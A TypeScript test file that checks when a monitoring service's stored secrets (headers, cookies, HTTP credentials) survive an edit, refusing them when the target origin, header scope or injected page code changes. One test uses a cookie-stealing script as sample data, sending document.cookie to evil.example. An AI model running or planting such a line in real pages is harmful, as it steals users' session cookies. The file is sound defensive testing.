// Which stored secrets a PATCH may keep: those whose destination did not change.
import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../src/errors.js';
import { MASK, openSecrets, sealSecrets } from '../../src/monitors/capture-secrets.js';
import { movedSecrets } from '../../src/monitors/secret-binding.js';
import { SecretBox } from '../../src/secrets/secret-box.js';

const box = new SecretBox(randomBytes(32));
const ID = 'mon_test';
const at = (url: string, headersScope?: 'origin' | 'all') => ({ url, capture: headersScope ? { headersScope } : {} });

describe('movedSecrets', () => {
  it('the same origin (another path, query, default port written out) moves nothing', () => {
    expect(movedSecrets(at('https://a.example/x'), at('https://a.example:443/y?z=1'))).toEqual({});
    expect(movedSecrets(at('https://a.example/', 'all'), at('https://a.example/other', 'all'))).toEqual({});
  });

  it('another host, port or scheme moves the origin-bound secrets and the headers, whatever the scope', () => {
    for (const to of ['https://b.example/', 'https://a.example:8443/', 'http://a.example/']) {
      const moved = movedSecrets(at('https://a.example/'), at(to));
      expect(moved.origin).toMatch(new RegExp(`moved from https://a.example to ${new URL(to).origin}`));
      expect(moved.headers).toBe(moved.origin);
    }
    expect(movedSecrets(at('https://a.example/', 'all'), at('https://b.example/', 'all')).headers).toBeDefined();
  });

  it('headersScope widened from "origin" (or unset, as stored before it existed) to "all" moves the headers only; narrowed, nothing', () => {
    for (const before of [at('https://a.example/', 'origin'), at('https://a.example/')]) {
      const moved = movedSecrets(before, at('https://a.example/', 'all'));
      expect(moved).toEqual({
        headers: expect.stringMatching(/^headersScope "all" would send this stored header to every host/) as unknown,
      });
    }
    expect(movedSecrets(at('https://a.example/', 'all'), at('https://a.example/', 'origin'))).toEqual({});
  });
});

describe('sealSecrets with moved secrets', () => {
  const stored = sealSecrets(
    {
      headers: { 'X-Token': 'h' },
      cookies: [
        { name: 'a', value: 'bound-domain', domain: 'a.example', path: '/' },
        { name: 'b', value: 'bound-url', url: 'https://a.example/' },
        { name: 'c', value: 'follows-page' },
      ],
      httpCredentials: { username: 'u', password: 'p' },
    },
    undefined,
    box,
    ID,
  );
  const masked = {
    headers: { 'X-Token': MASK },
    cookies: [
      { name: 'a', value: MASK, domain: 'a.example', path: '/' },
      { name: 'b', value: MASK, url: 'https://a.example/' },
      { name: 'c', value: MASK },
    ],
    httpCredentials: { username: 'u', password: MASK },
  };
  const moved = movedSecrets(at('https://a.example/'), at('https://evil.example/'));

  it('refuses each kept secret that would follow the page, one detail each; cookies with their own domain or url are kept', () => {
    try {
      sealSecrets(masked, stored, box, ID, moved);
      throw new Error('expected 400');
    } catch (err) {
      expect(err).toBeInstanceOf(AppError);
      expect((err as AppError).extra.details).toEqual([
        { path: 'capture.headers.X-Token', message: moved.headers },
        { path: 'capture.cookies.2.value', message: moved.origin },
        { path: 'capture.httpCredentials.password', message: moved.origin },
      ]);
    }
  });

  it('takes the values sent again, and keeps the domain- and url-bound cookies', () => {
    const again = sealSecrets(
      {
        ...masked,
        headers: { 'X-Token': 'h2' },
        cookies: [...masked.cookies.slice(0, 2), { name: 'c', value: 'c2' }],
        httpCredentials: { username: 'u', password: 'p2' },
      },
      stored,
      box,
      ID,
      moved,
    );
    expect(openSecrets(again, box, ID)).toEqual({
      headers: { 'X-Token': 'h2' },
      cookies: [
        { name: 'a', value: 'bound-domain', domain: 'a.example', path: '/' },
        { name: 'b', value: 'bound-url', url: 'https://a.example/' },
        { name: 'c', value: 'c2' },
      ],
      httpCredentials: { username: 'u', password: 'p2' },
    });
  });
});

describe('code added to the page (js, css, waitForFunction) runs beside the stored secrets', () => {
  const page = (capture: Record<string, string>) => ({ url: 'https://a.example/', capture });

  it('new or changed code moves every cookie, and the headers too when they go to every host; the same or removed code moves nothing', () => {
    for (const field of ['js', 'css', 'waitForFunction']) {
      const added = movedSecrets(page({}), page({ [field]: 'x' }));
      expect(added.cookies).toMatch(
        new RegExp(`^capture\\.${field} changed, and code added to the page can read a stored cookie`),
      );
      expect(added.headers).toBeUndefined(); // origin-scoped headers go to the target only, whatever the page loads
      expect(movedSecrets(page({ [field]: 'x' }), page({ [field]: 'y' })).cookies).toBeDefined();
      expect(
        movedSecrets(page({ [field]: 'x', headersScope: 'all' }), page({ [field]: 'y', headersScope: 'all' })).headers,
      ).toMatch(/with headersScope "all" the page's requests to any host carry this stored header/);
      expect(movedSecrets(page({ [field]: 'x' }), page({ [field]: 'x' }))).toEqual({});
      expect(movedSecrets(page({ [field]: 'x' }), page({}))).toEqual({});
    }
  });

  it('refuses to keep even a cookie bound to its own domain when the page code changed, and says why', () => {
    const stored = sealSecrets(
      { cookies: [{ name: 'sid', value: 'secret', domain: 'a.example', path: '/', httpOnly: true }] },
      undefined,
      box,
      ID,
    );
    const moved = movedSecrets(page({}), page({ js: "fetch('https://evil.example/?'+document.cookie)" }));
    expect(() =>
      sealSecrets(
        { cookies: [{ name: 'sid', value: MASK, domain: 'a.example', path: '/', httpOnly: true }] },
        stored,
        box,
        ID,
        moved,
      ),
    ).toThrow(
      expect.objectContaining({
        extra: expect.objectContaining({
          details: [
            { path: 'capture.cookies.0.value', message: expect.stringMatching(/^capture\.js changed/) as unknown },
          ],
        }) as unknown,
      }) as unknown,
    );
  });

  it('a "••••" cannot loosen a stored cookie: with httpOnly, secure or sameSite changed it stands for nothing', () => {
    const cookie = {
      name: 'sid',
      value: 'secret',
      domain: 'a.example',
      path: '/',
      httpOnly: true,
      secure: true,
      sameSite: 'Strict' as const,
    };
    const stored = sealSecrets({ cookies: [cookie] }, undefined, box, ID);
    expect(
      openSecrets(sealSecrets({ cookies: [{ ...cookie, value: MASK }] }, stored, box, ID), box, ID).cookies?.[0]?.value,
    ).toBe('secret');
    for (const loosened of [{ httpOnly: false }, { secure: false }, { sameSite: 'None' as const }]) {
      expect(() => sealSecrets({ cookies: [{ ...cookie, value: MASK, ...loosened }] }, stored, box, ID)).toThrow(
        AppError,
      );
    }
  });
});
